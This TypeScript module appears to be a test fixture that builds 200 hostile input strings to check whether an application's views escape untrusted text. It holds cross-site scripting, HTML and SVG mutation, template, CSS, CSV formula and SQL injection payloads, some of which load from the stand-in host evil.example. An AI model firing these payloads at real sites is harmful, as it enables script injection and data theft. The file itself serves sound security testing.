/** Hostile texts. Each sets `window.attacked` if it runs, or loads from `evil.example`. */

export interface Payload {
  text: string;
  /** Follows the text in each field, and shows that a view has it. */
  token: string;
}

/** Writes one payload. `run` is a script without quotes, spaces and angle brackets. */
type Family = ((run: string) => string)[];

const NAMES = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "details open",
  "input autofocus",
  "iframe",
  "a tabindex=1",
];
const EVENTS = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onbegin",
  "onpointerenter",
  "onwheel",
  "onclick",
].concat("onanimationstart");
const QUOTES = ["", `">`, `'>`, "</title></textarea></script></style>", "<!--", "]]>"];

/** Every element with every event, each time out of another context. */
const HANDLERS: Family = NAMES.flatMap((name, row) =>
  EVENTS.map(
    (event, column) => (run) => `${QUOTES[(row + column) % QUOTES.length]}<${name} ${event}=${run}>`,
  ),
);

const SCRIPTS: Family = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script/x>${run}</script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script src=//evil.example/${run}></script>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<!--><script>${run}</script>-->`,
  (run) => `<noscript><p title="</noscript><script>${run}</script>">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<script\u2028>${run}</script>`,
];

const ATTRIBUTES: Family = [`"`, `'`, "`", ""].flatMap(
  (quote): Family => [
    (run) => `${quote} onfocus=${quote}${run}${quote} autofocus tabindex=${quote}1`,
    (run) => `${quote} style=${quote}position:fixed;inset:0${quote} onpointermove=${quote}${run}`,
    (run) => `${quote}/onerror=${run}/src=x${quote}`,
  ],
);

const SCHEMES: Family = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `javascript://evil.example/%0a${run}`,
  (run) => `https:javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  (run) => `vbscript:${run}`,
  (run) => `blob:javascript:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `file:///etc/passwd?${run}`,
];
/** Every scheme as a web address, a Markdown link and a link. */
const ADDRESSES: Family = SCHEMES.flatMap((address, at): Family => {
  const links: Family = [
    (run) => `[open](${address(run)})`,
    (run) => `<a href="${address(run)}">open</a>`,
    (run) => `<form action="${address(run)}"><button>open</button></form>`,
  ];
  return [address, links[at % links.length] as Family[number]];
});

const TEMPLATES: Family = [
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `{% ${run} %}`,
  (run) => `{${run}}`,
  (run) => `[[\${${run}}]]`,
  (run) => `*{${run}}@{${run}}`,
  (run) => `{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
  (run) => `__proto__[toString]=${run}`,
];

const FOREIGN: Family = [
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text y=20>open</text></a></svg>`,
  (run) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  (run) => `<svg><style>@import "//evil.example/${run}"</style></svg>`,
  (run) => `<math href="javascript:${run}">open</math>`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
];

const STYLES: Family = [
  (run) => `<style>*{display:none}</style>${run}`,
  (run) => `<style>@import url(//evil.example/${run})</style>`,
  (run) => `<link rel=stylesheet href=//evil.example/${run}>`,
  (run) => `<p style="background:url(//evil.example/${run})">`,
  (run) => `<p style="width:expression(${run})">`,
  (run) => `}*{display:none}/*${run}*/`,
  (run) => `<p style="position:fixed;inset:0;z-index:9999">${run}</p>`,
  (run) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${run}>`,
];

const DOCUMENTS: Family = [
  (run) => `<base href="https://evil.example/${run}/">`,
  (run) => `<meta http-equiv=refresh content="0;url=https://evil.example/${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<button formaction="javascript:${run}">open</button>`,
  (run) => `<dialog open>${run}</dialog>`,
  (run) => `<img src="https://evil.example/${run}.png" srcset="//evil.example/${run}">`,
  (run) => `![${run}](https://evil.example/${run}.png)`,
  (run) => `<video><source onerror=${run}></video>`,
];

const entities = (text: string) => text.replace(/[<>"]/g, (one) => `&#${one.charCodeAt(0)};`);
const wide = (text: string) =>
  text.replace(/[!-~]/g, (one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0));
const image = (run: string) => `<img src=x onerror=${run}>`;

const ENCODINGS: Family = [
  (run) => entities(image(run)),
  (run) => entities(image(run)).replaceAll("&", "&amp;"),
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => encodeURIComponent(image(run)),
  (run) => encodeURIComponent(encodeURIComponent(image(run))),
  (run) => image(run).replace("<", "\\u003c"),
  (run) => image(run).replace("<", "\\x3c"),
  (run) => `+ADw-img src=x onerror=${run}+AD4-`,
  (run) => `${wide("<img src=x onerror=1>")}${run}`,
  (run) => image(run).replace("img", "i\u200bmg"),
  (run) => image(run).replaceAll(" ", "\u000c"),
  (run) => image(run).replaceAll(" ", "/"),
  (run) => `<\u0001img src=x onerror=${run}>`,
  (run) => `<img src=x onerror\u000b=${run}>`,
];

const CHARACTERS: Family = [
  "\u202e",
  "\u2066\u202d",
  "\u2069\u202c\u202e",
  "\u200f\u061c",
  "\u200b\u200d\ufeff",
  "\u001b[2J\u001b]0;",
  "\u0008\u007f",
  "\u2028\u2029",
  "e\u0301\u0323\u0334".repeat(4),
  "\ufdfa",
  "\u{e0041}\u{e007f}",
  "\ufffe\ufff9",
].map((hidden) => (run: string) => `${hidden}<b onclick=${run}>${hidden}`);

const TABLES: Family = [
  (run) => `=HYPERLINK("https://evil.example/${run}","open")`,
  (run) => `@SUM(1+1)*cmd|'/c calc'!${run}`,
  (run) => `+cmd|'/c calc'!${run}`,
  (run) => `-2+3+cmd|${run}`,
  (run) => `\t=${run}`,
  (run) => `"\r\n"","=${run}"`,
  (run) => `"}\n{"run_id":"${run}"}`,
  (run) => `'; DROP TABLE runs; --${run}`,
];

const FAMILIES = [
  HANDLERS,
  SCRIPTS,
  ATTRIBUTES,
  ADDRESSES,
  TEMPLATES,
  FOREIGN,
  STYLES,
  DOCUMENTS,
  ENCODINGS,
  CHARACTERS,
  TABLES,
];
const COUNT = 200;

/** All payloads. The families take turns, so the first ones have one of each. */
export const PAYLOADS: Payload[] = inTurn(FAMILIES)
  .slice(0, COUNT)
  .map((write, number) => ({ text: write(`attacked=${number}`), token: `p${1000 + number}` }));

function inTurn(families: Family[]): Family {
  const longest = Math.max(...families.map((family) => family.length));
  return Array.from({ length: longest }, (_, row) =>
    families.flatMap((family) => family.slice(row, row + 1)),
  ).flat();
}

/** The payload for a field of so many bytes. */
export function within({ text, token }: Payload, bytes: number): string {
  let end = text.length;
  while (Buffer.byteLength(text.slice(0, end)) > bytes - token.length - 1) end -= 1;
  // Half of a character has no encoding.
  return `${text.slice(0, end).toWellFormed()} ${token}`;
}

/** The payloads for a field of many bytes. */
export const all = (payloads: Payload[]) => payloads.map(({ text, token }) => `${text} ${token}`).join("\n");
